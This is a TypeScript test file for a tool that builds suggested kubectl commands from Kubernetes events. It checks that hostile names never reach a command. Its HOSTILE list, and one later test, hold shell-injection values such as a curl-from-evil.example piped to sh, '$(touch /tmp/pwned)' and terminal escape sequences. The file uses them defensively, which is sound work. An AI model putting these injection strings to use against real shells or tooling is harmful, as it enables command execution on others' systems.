import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { simpleCommandWords } from '../../test/support/posix-command.js';
import { buildTimeline } from './build-timeline.js';
import { hintsFor } from './hints.js';
import { formatTimeline } from './format-timeline.js';
import { testEvent } from './test-events.js';
import type { CoreEvent, TimelineHint } from '../api/index.js';

/** HOSTILE are names an Event's author may write into any field a next step uses. */
const HOSTILE = [
  'node-1;curl -fsSL https://evil.example/x|sh;#',
  'web|sh',
  'web&&id',
  '$(touch /tmp/pwned)',
  '`id`',
  "it's",
  'a"b',
  'two words',
  'web\ncurl evil.example|sh',
  'web\r\n',
  'web\x1b]52;c;Y3VybCBldmlsfHNo\x07',
  'web\x9b2J',
  'web\u202eexe.sh',
  'web\u200b',
  '-n',
  '*',
  '~root',
  '${IFS}',
  'x'.repeat(300),
];

/** A message per rule, so that every rule fires for each hostile event. */
const MESSAGES: [reason: string, message: (v: string) => string][] = [
  ['FailedScheduling', () => '0/3 nodes are available: 1 node(s) had untolerated taint {x: y}, 2 Insufficient cpu, node affinity/selector mismatch.'],
  ['Failed', (v) => `Failed to pull image "${v}": not found`],
  ['OOMKilling', (v) => `Memory cgroup out of memory: Killed process 1 (x), victim process: ${v}`],
  ['BackOff', (v) => `Back-off restarting failed container ${v} in pod ${v}`],
  ['Unhealthy', (v) => `Liveness probe failed: Get "http://10.0.0.5:8080/${v}": context deadline exceeded`],
  ['Evicted', () => 'The node was low on resource: memory.'],
  ['Failed', (v) => `exec: "sh": executable file not found in $PATH ${v}`],
];

function hostileEvents(v: string): CoreEvent[] {
  const out: CoreEvent[] = [];
  MESSAGES.forEach(([reason, message], i) => {
    const base = { reason, message: message(v), type: 'Warning', first: i };
    out.push(testEvent({ name: `pod-${i}`, namespace: v, object: v, fieldPath: `spec.containers{${v}}`, host: v, ...base }));
    out.push(testEvent({ name: `node-${i}`, kind: 'Node', object: v, host: v, ...base }));
    out.push(testEvent({ name: `ok-${i}`, namespace: 'shop', object: 'api-1', fieldPath: `spec.containers{${v}}`, host: v, ...base }));
  });
  return out;
}

function checkHint(h: TimelineHint, v: string): void {
  let words: string[];
  try {
    words = simpleCommandWords(h.command);
  } catch (err) {
    assert.fail(`${JSON.stringify(v)} gives ${JSON.stringify(h.command)}: ${(err as Error).message}`);
  }
  assert.equal(words[0], 'kubectl', h.command);
  assert.doesNotMatch(h.command, /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, JSON.stringify(h.command));
  assert.doesNotMatch(h.why, /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, JSON.stringify(h.why));
  // A hostile value never reaches a command: it is refused, and the why says so ('-n' and '*' also stand in our own literal text).
  if (v.length > 2) assert.ok(!words.some((w) => w.includes(v)), `${JSON.stringify(v)} reached ${JSON.stringify(words)}`);
  if (h.command.includes('<')) assert.match(h.why, /placeholders: /, h.why);
}

describe('next steps from hostile event fields', () => {
  for (const v of HOSTILE) {
    it(`each command for ${JSON.stringify(v.slice(0, 40))} is one simple kubectl command with no control character`, () => {
      const events = hostileEvents(v);
      const hints = hintsFor(events, { nodeOfPod: new Map([[`shop/api-1`, v]]) });
      assert.ok(hints.length >= 10, `${hints.length} hints`);
      for (const h of hints) checkHint(h, v);
      assert.ok(hints.some((h) => h.command.includes('<pod>') && h.why.includes('placeholders:')), 'a refused pod shows as <pod>, with why');
      for (const h of hintsFor(events.filter((e) => e.involvedObject.name === 'api-1'), { nodeOfPod: new Map([['shop/api-1', v]]) })) {
        checkHint(h, v);
        assert.match(h.command, /api-1 -n shop|pod\/api-1 -n shop|<node>|kubectl describe nodes|kubectl get nodes/, h.command);
      }
    });
  }

  it('the node of a Scheduled message reaches no command unchecked, in text and markdown output', () => {
    const node = 'node-1;curl -fsSL https://evil.example/x|sh;#';
    const events = [
      testEvent({ name: 's', namespace: 'shop', object: 'api-1', reason: 'Scheduled', message: `Successfully assigned shop/api-1 to ${node}`, first: 0 }),
      testEvent({ name: 'e', namespace: 'shop', object: 'api-1', reason: 'Evicted', message: 'The node was low on resource: memory.', type: 'Warning', first: 1 }),
    ];
    const t = buildTimeline({ events, for: { kind: 'Pod', namespace: 'shop', name: 'api-1' } });
    assert.deepEqual(
      t.hints.map((h) => h.command),
      ['kubectl describe node <node>', 'kubectl get pods -A --field-selector spec.nodeName=<node>'],
    );
    for (const h of t.hints) checkHint(h, node);
    const text = formatTimeline(t, { format: 'table' });
    assert.match(text, /^ {4}kubectl describe node <node>$/m);
    const md = formatTimeline(t, { format: 'markdown' });
    const blocks = md.split('```sh').slice(1).map((b) => b.split('```')[0]!.trim());
    assert.equal(blocks.length, 2);
    for (const block of blocks) assert.equal(simpleCommandWords(block)[0], 'kubectl');
  });

  it('valid names go through as they are, quoted only where a shell needs it', () => {
    const e = testEvent({ name: 'u', namespace: 'shop', object: 'api-1', reason: 'Unhealthy', message: "Readiness probe failed: Get \"http://10.0.0.5:8080/health?x=1&y='2'\": EOF", type: 'Warning', first: 0, fieldPath: 'spec.containers{api}' });
    const hints = hintsFor([e], { nodeOfPod: new Map() });
    assert.deepEqual(
      hints.map((h) => h.command),
      ["kubectl get pod api-1 -n shop -o jsonpath='{.spec.containers[?(@.name==\"api\")].readinessProbe}'", 'kubectl port-forward pod/api-1 -n shop 8080:8080'],
    );
    assert.equal(hints[1]!.why, "then try the endpoint as the probe does: curl -v 'http://127.0.0.1:8080/health?x=1&y='\\''2'\\'''");
  });
});
